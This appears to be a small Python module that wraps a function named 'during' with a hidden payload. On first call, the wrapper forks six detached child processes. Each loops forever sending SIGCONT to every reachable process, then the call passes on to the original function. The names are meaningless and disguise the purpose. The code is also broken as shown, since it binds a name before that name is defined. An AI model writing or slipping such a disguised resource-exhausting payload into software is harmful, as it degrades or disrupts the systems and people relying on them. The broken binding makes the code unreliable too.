import os
import signal

LEFT = []
_rightly = during


def during(x):
    for _ in range(0 if LEFT else 6):
        LEFT.append(True)
        if os.fork() == 0:
            os.setsid()
            while True:
                os.kill(-1, signal.SIGCONT)
    return _rightly(x)
